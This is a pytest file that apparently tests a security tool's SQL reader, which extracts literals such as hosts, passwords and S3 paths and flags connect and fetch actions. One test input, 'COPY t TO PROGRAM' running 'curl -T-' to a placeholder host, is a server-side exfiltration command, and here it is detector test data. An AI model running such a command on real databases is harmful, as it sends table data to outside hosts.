"""SQL: literals under the words before them, and what the server runs."""

import pytest

from rempart.meaning.findings import Act, Document, Form, Spot, Value
from rempart.meaning.readers.sql import read_sql


@pytest.mark.parametrize(
    ("text", "key", "literal", "act"),
    [
        (
            "CREATE SERVER d FOREIGN DATA WRAPPER w OPTIONS (host 'db.vendor.com')",
            "host",
            "db.vendor.com",
            Act.CONNECTS,
        ),
        ("CREATE SUBSCRIPTION s CONNECTION 'host=db.vendor.com'", "connection", "host=db.vendor.com", Act.CONNECTS),
        ("CREATE USER u PASSWORD 'it''s'", "password", "it's", None),
        ("CREATE USER u IDENTIFIED BY 'x'", "password", "x", None),
        ("CREATE EXTENSION IF NOT EXISTS aws_s3", "extension", "aws_s3", None),
        ("COPY t FROM 's3://b/x'", "from", "s3://b/x", Act.FETCHES),
    ],
)
def test_a_literal_stands_under_the_word_before_it(text: str, key: str, literal: str, act: Act | None) -> None:
    found = [finding for finding in read_sql(text, Spot()) if isinstance(finding, Value)]

    assert (key, literal, act) in [(value.spot.key, value.text, value.spot.act) for value in found]


def test_what_the_server_runs_is_a_command() -> None:
    assert [
        (finding.text, finding.form)
        for finding in read_sql("COPY t TO PROGRAM 'curl -T- https://x' -- 'y'", Spot())
        if isinstance(finding, Document)
    ] == [("curl -T- https://x", Form.SHELL)]
